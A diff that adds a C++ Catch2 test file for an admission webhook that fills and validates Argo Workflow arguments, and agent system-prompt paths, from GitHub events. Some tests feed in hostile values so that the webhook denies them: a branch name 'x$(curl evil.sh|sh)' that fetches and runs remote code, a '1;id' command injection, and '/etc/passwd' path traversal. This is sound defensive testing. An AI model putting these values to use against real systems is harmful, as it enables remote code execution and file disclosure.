@@ -1,0 +1,300 @@
+#include <catch2/catch.hpp>
+
+#include "decision/decide.h"
+#include "test_support.h"
+
+using coderun::decision::decide;
+using coderun::decision::Decision;
+using coderun::decision::Phase;
+using coderun::testing::create_request;
+using coderun::testing::FakePrompts;
+using coderun::testing::read_event_fixture;
+using coderun::testing::workflow_with;
+using nlohmann::json;
+
+namespace {
+
+const coderun::policy::Policy kPolicy{};
+const FakePrompts kAllPrompts({"/etc/agents/rex_system-prompt.md", "/etc/agents/clippy_system-prompt.md",
+                               "/etc/agents/default_system-prompt.md"});
+
+json params(std::initializer_list<std::pair<const char*, std::string>> values) {
+  json out = json::array();
+  for (const auto& [name, value] : values) out.push_back({{"name", name}, {"value", value}});
+  return out;
+}
+
+Decision mutate(const json& object, const coderun::policy::PromptCatalog& prompts = kAllPrompts) {
+  return decide(create_request(object), kPolicy, prompts, Phase::kMutate);
+}
+
+json apply_patch(const json& object, const Decision& decision) {
+  return decision.response.patch.empty() ? object : object.patch(decision.response.patch);
+}
+
+std::map<std::string, std::string> arguments_of(const json& workflow) {
+  std::map<std::string, std::string> out;
+  for (const auto& parameter : workflow["spec"]["arguments"]["parameters"]) {
+    out[parameter["name"]] = parameter.value("value", "");
+  }
+  return out;
+}
+
+}  // namespace
+
+TEST_CASE("a pull_request event fills every argument, labels and the sources annotation") {
+  const json workflow = workflow_with(
+      params({{"github-app", "clippy"}, {"event", read_event_fixture("pull_request.opened").dump()}}));
+  const auto decision = mutate(workflow);
+  REQUIRE(decision.response.allowed);
+  CHECK(decision.outcome == "mutated");
+  const json result = apply_patch(workflow, decision);
+  const auto arguments = arguments_of(result);
+  CHECK(arguments.at("owner") == "Codertocat");
+  CHECK(arguments.at("repo") == "Hello-World");
+  CHECK(arguments.at("repoFullName") == "Codertocat/Hello-World");
+  CHECK(arguments.at("ref") == "changes");
+  CHECK(arguments.at("sha") == "ec26c3e57ca3a959ca5aad62de7213c562f8c821");
+  CHECK(arguments.at("prNumber") == "2");
+  CHECK(arguments.count("issueNumber") == 0);
+  CHECK(arguments.at("systemPromptPath") == "/etc/agents/clippy_system-prompt.md");
+  CHECK(result["metadata"]["labels"]["taskmaster.io/github-app"] == "clippy");
+  CHECK(result["metadata"]["labels"]["taskmaster.io/repo"] == "Codertocat.Hello-World");
+  CHECK(result["metadata"]["labels"]["taskmaster.io/pr-number"] == "2");
+  const json sources = json::parse(result["metadata"]["annotations"]["taskmaster.io/value-sources"].get<std::string>());
+  CHECK(sources["ref"] == "event:.pull_request.head.ref");
+  CHECK(sources["systemPromptPath"] == "prompts:clippy");
+  CHECK(decision.response.audit_annotations.at("decision") == "mutated");
+  CHECK(decision.response.audit_annotations.at("repo") == "Codertocat/Hello-World");
+}
+
+TEST_CASE("mutating the mutated Workflow again gives an empty patch") {
+  for (const char* fixture : {"pull_request.opened", "push.branch", "issue_comment.created.on-pull-request",
+                              "pull_request.opened.from-fork", "release.published"}) {
+    INFO(fixture);
+    const json workflow = workflow_with(params({{"github-app", "rex"}, {"event", read_event_fixture(fixture).dump()}}));
+    const auto first = mutate(workflow);
+    REQUIRE(first.response.allowed);
+    const json once = apply_patch(workflow, first);
+    const auto second = mutate(once);
+    CHECK(second.response.allowed);
+    CHECK(second.response.patch.empty());
+    CHECK(second.outcome == "unchanged");
+    CHECK(second.response.warnings.empty());
+  }
+}
+
+TEST_CASE("what the user passed with -p wins, with a warning when the event disagrees") {
+  const json workflow = workflow_with(params({{"github-app", "rex"},
+                                              {"ref", "release-1"},
+                                              {"event", read_event_fixture("pull_request.opened").dump()}}));
+  const auto decision = mutate(workflow);
+  REQUIRE(decision.response.allowed);
+  const auto arguments = arguments_of(apply_patch(workflow, decision));
+  CHECK(arguments.at("ref") == "release-1");
+  CHECK(arguments.at("repoFullName") == "Codertocat/Hello-World");
+  REQUIRE(decision.response.warnings.size() == 1);
+  CHECK_THAT(decision.response.warnings[0], Catch::Contains("'release-1' set by the user is kept") &&
+                                                 Catch::Contains("'changes'"));
+}
+
+TEST_CASE("a repository set by the user keeps the event's revision out") {
+  const json workflow = workflow_with(params({{"github-app", "rex"},
+                                              {"repoFullName", "acme/tools"},
+                                              {"event", read_event_fixture("pull_request.opened").dump()}}));
+  const auto decision = mutate(workflow);
+  REQUIRE(decision.response.allowed);
+  const auto arguments = arguments_of(apply_patch(workflow, decision));
+  CHECK(arguments.at("owner") == "acme");
+  CHECK(arguments.at("repo") == "tools");
+  CHECK(arguments.at("ref") == "main");  // not the event's "changes", a branch of another repo
+  CHECK(arguments.count("prNumber") == 0);
+  CHECK_THAT(decision.response.warnings.at(0), Catch::Contains("not used"));
+}
+
+TEST_CASE("an empty parameter is filled in place; a valueFrom parameter is left alone") {
+  json parameters = params({{"github-app", "rex"}, {"ref", ""}, {"event", read_event_fixture("push.branch").dump()}});
+  parameters.push_back({{"name", "sha"}, {"valueFrom", {{"configMapKeyRef", {{"name", "c"}, {"key", "k"}}}}}});
+  const json workflow = workflow_with(parameters);
+  const auto decision = mutate(workflow);
+  REQUIRE(decision.response.allowed);
+  CHECK(decision.response.patch.at(0) ==
+        json({{"op", "replace"}, {"path", "/spec/arguments/parameters/1/value"}, {"value", "master"}}));
+  const json result = apply_patch(workflow, decision);
+  CHECK(result["spec"]["arguments"]["parameters"][3].contains("valueFrom"));
+  CHECK_FALSE(result["spec"]["arguments"]["parameters"][3].contains("value"));
+}
+
+TEST_CASE("labels and annotations the user set are never replaced") {
+  json workflow = workflow_with(params({{"github-app", "rex"}, {"repoFullName", "acme/tools"}}));
+  workflow["metadata"]["labels"] = {{"taskmaster.io/repo", "mine"}, {"team", "a"}};
+  workflow["metadata"]["annotations"] = {{"taskmaster.io/value-sources", "{}"}};
+  const auto decision = mutate(workflow);
+  const json result = apply_patch(workflow, decision);
+  CHECK(result["metadata"]["labels"]["taskmaster.io/repo"] == "mine");
+  CHECK(result["metadata"]["labels"]["team"] == "a");
+  CHECK(result["metadata"]["labels"]["taskmaster.io/github-app"] == "rex");
+  CHECK(result["metadata"]["annotations"]["taskmaster.io/value-sources"] == "{}");
+}
+
+TEST_CASE("the seed's three error messages, word for word") {
+  SECTION("an app outside the allow-list") {
+    const auto decision = mutate(workflow_with(params({{"github-app", "invalid-app"}, {"repoFullName", "a/b"}})));
+    CHECK_FALSE(decision.response.allowed);
+    CHECK(decision.response.code == 403);
+    CHECK(decision.response.message ==
+          "Error: Invalid github-app 'invalid-app'. Must be one of: rex, clippy, qa, triage, security");
+    CHECK(decision.rule == "github-app");
+  }
+  SECTION("no github-app at all") {
+    json workflow = workflow_with(params({{"repoFullName", "a/b"}}));
+    const auto decision = mutate(workflow);
+    CHECK(decision.response.message ==
+          "Error: Invalid github-app ''. Must be one of: rex, clippy, qa, triage, security");
+  }
+  SECTION("no repository anywhere") {
+    const auto decision = mutate(workflow_with(params({{"github-app", "rex"}, {"event", "{}"}})));
+    CHECK_FALSE(decision.response.allowed);
+    CHECK(decision.response.message ==
+          "Error: Repository information not available from event payload and no git context found");
+    CHECK(decision.rule == "repository");
+  }
+  SECTION("no prompt for the app and no default") {
+    const FakePrompts none({});
+    const auto decision = mutate(workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}})), none);
+    CHECK_FALSE(decision.response.allowed);
+    CHECK(decision.response.message ==
+          "Error: System prompt not found at /etc/agents/rex_system-prompt.md or "
+          "/etc/agents/default_system-prompt.md");
+  }
+}
+
+TEST_CASE("an app without its own prompt gets the default prompt") {
+  const json workflow = workflow_with(params({{"github-app", "triage"}, {"repoFullName", "a/b"}}));
+  const auto arguments = arguments_of(apply_patch(workflow, mutate(workflow)));
+  CHECK(arguments.at("systemPromptPath") == "/etc/agents/default_system-prompt.md");
+}
+
+TEST_CASE("a prompt path set by the user must exist inside the prompts directory") {
+  auto with_prompt = [](const std::string& path) {
+    return workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}, {"systemPromptPath", path}}));
+  };
+  CHECK(mutate(with_prompt("/etc/agents/rex_system-prompt.md")).response.allowed);
+  CHECK(mutate(with_prompt("/etc/agents/missing.md")).response.message ==
+        "Error: System prompt not found at /etc/agents/missing.md");
+  CHECK_THAT(mutate(with_prompt("/etc/passwd")).response.message, Catch::Contains("not inside /etc/agents"));
+  CHECK_THAT(mutate(with_prompt("/etc/agents/../passwd")).response.message, Catch::Contains("'..'"));
+}
+
+TEST_CASE("a malformed event gives defaults and a warning, never a failure") {
+  for (const char* event : {"{not json", "[1,2,3]", "\"a string\"", "12"}) {
+    INFO(event);
+    const json workflow = workflow_with(params({{"github-app", "rex"}, {"repoFullName", "acme/tools"}, {"event", event}}));
+    const auto decision = mutate(workflow);
+    REQUIRE(decision.response.allowed);
+    REQUIRE_FALSE(decision.response.warnings.empty());
+    CHECK_THAT(decision.response.warnings[0], Catch::Contains("ignored"));
+    CHECK(arguments_of(apply_patch(workflow, decision)).at("ref") == "main");
+    CHECK(decision.resolution.event_problem);
+  }
+}
+
+TEST_CASE("an attacker-chosen branch name is denied, naming the field and its source") {
+  auto event = read_event_fixture("pull_request.opened");
+  event["pull_request"]["head"]["ref"] = "x$(curl evil.sh|sh)";
+  const auto decision = mutate(workflow_with(params({{"github-app", "rex"}, {"event", event.dump()}})));
+  CHECK_FALSE(decision.response.allowed);
+  CHECK(decision.rule == "safe-value:ref");
+  CHECK_THAT(decision.response.message, Catch::StartsWith("Error: Invalid ref 'x$(curl evil.sh|sh)' (from event:.pull_request.head.ref)"));
+}
+
+TEST_CASE("a value the user passed is checked the same way") {
+  const auto decision = mutate(workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}, {"prNumber", "1;id"}})));
+  CHECK_FALSE(decision.response.allowed);
+  CHECK(decision.rule == "safe-value:prNumber");
+}
+
+TEST_CASE("an Argo Events envelope works like the body itself") {
+  const json envelope = {{"headers", {{"X-Github-Event", {"push"}}}}, {"body", read_event_fixture("push.branch")}};
+  const json workflow = workflow_with(params({{"github-app", "qa"}, {"event", envelope.dump()}}));
+  const auto decision = mutate(workflow);
+  REQUIRE(decision.response.allowed);
+  CHECK(arguments_of(apply_patch(workflow, decision)).at("ref") == "master");
+  CHECK(decision.response.audit_annotations.at("event-type") == "push");
+}
+
+TEST_CASE("what the webhook does not serve is allowed untouched") {
+  json other = workflow_with(params({{"message", "hi"}}));
+  other["spec"]["workflowTemplateRef"]["name"] = "hello-world";
+  auto decision = mutate(other);
+  CHECK(decision.response.allowed);
+  CHECK_FALSE(decision.served);
+  CHECK(decision.response.patch.empty());
+
+  json pod = {{"apiVersion", "v1"}, {"kind", "Pod"}, {"metadata", {{"name", "p"}}}};
+  auto request = create_request(pod);
+  request.kind.group = "";
+  CHECK(decide(request, kPolicy, kAllPrompts, Phase::kMutate).outcome == "ignored");
+
+  auto update = create_request(workflow_with(params({{"github-app", "nope"}})));
+  update.operation = "UPDATE";
+  CHECK(decide(update, kPolicy, kAllPrompts, Phase::kMutate).response.allowed);
+}
+
+TEST_CASE("a Workflow with a github-app argument is served whatever its template") {
+  json workflow = workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}}));
+  workflow["spec"].erase("workflowTemplateRef");
+  const auto decision = mutate(workflow);
+  CHECK(decision.served);
+  CHECK(decision.outcome == "mutated");
+}
+
+TEST_CASE("arguments are created when the Workflow has none") {
+  json workflow = workflow_with(json::array());
+  workflow["spec"].erase("arguments");
+  const auto decision = mutate(workflow);  // served by template name, but no github-app
+  CHECK_FALSE(decision.response.allowed);
+
+  json minimal = {{"apiVersion", "argoproj.io/v1alpha1"}, {"kind", "Workflow"},
+                  {"spec", {{"arguments", {{"parameters", params({{"github-app", "rex"}, {"repoFullName", "a/b"}})}}}}}};
+  const auto filled = mutate(minimal);
+  REQUIRE(filled.response.allowed);
+  const json result = apply_patch(minimal, filled);
+  CHECK(result["metadata"]["labels"]["taskmaster.io/github-app"] == "rex");
+}
+
+TEST_CASE("the validating pass checks the same rules and never patches") {
+  const json workflow = workflow_with(params({{"github-app", "clippy"}, {"event", read_event_fixture("issues.opened").dump()}}));
+  const auto validated = decide(create_request(workflow), kPolicy, kAllPrompts, Phase::kValidate);
+  CHECK(validated.response.allowed);
+  CHECK(validated.response.patch.empty());
+  const auto denied = decide(create_request(workflow_with(params({{"github-app", "bad"}}))), kPolicy,
+                             kAllPrompts, Phase::kValidate);
+  CHECK_FALSE(denied.response.allowed);
+}
+
+TEST_CASE("a request without an object, or with a spec that is not an object, is a clear 400") {
+  auto request = create_request(workflow_with(params({{"github-app", "rex"}})));
+  request.object.reset();
+  auto decision = decide(request, kPolicy, kAllPrompts, Phase::kMutate);
+  CHECK_FALSE(decision.response.allowed);
+  CHECK(decision.response.code == 400);
+
+  json workflow = workflow_with(params({{"github-app", "rex"}}));
+  json broken = {{"apiVersion", "argoproj.io/v1alpha1"}, {"kind", "Workflow"}, {"spec", "oops"},
+                 {"metadata", {{"name", "x"}}}};
+  // Not served (no template, no github-app argument it can read): allowed untouched.
+  CHECK(mutate(broken).response.allowed);
+}
+
+TEST_CASE("parameter values of other JSON types") {
+  json parameters = params({{"github-app", "rex"}, {"repoFullName", "a/b"}});
+  parameters.push_back({{"name", "prNumber"}, {"value", 12}});
+  parameters.push_back({{"name", "issueNumber"}, {"value", {{"x", 1}}}});
+  const json workflow = workflow_with(parameters);
+  const auto decision = mutate(workflow);
+  REQUIRE(decision.response.allowed);
+  CHECK(decision.resolution.find("prNumber")->value == "12");
+  CHECK_THAT(decision.response.warnings.at(0), Catch::Contains("issueNumber is a object"));
+  CHECK(decision.resolution.find("issueNumber") == nullptr);
+}
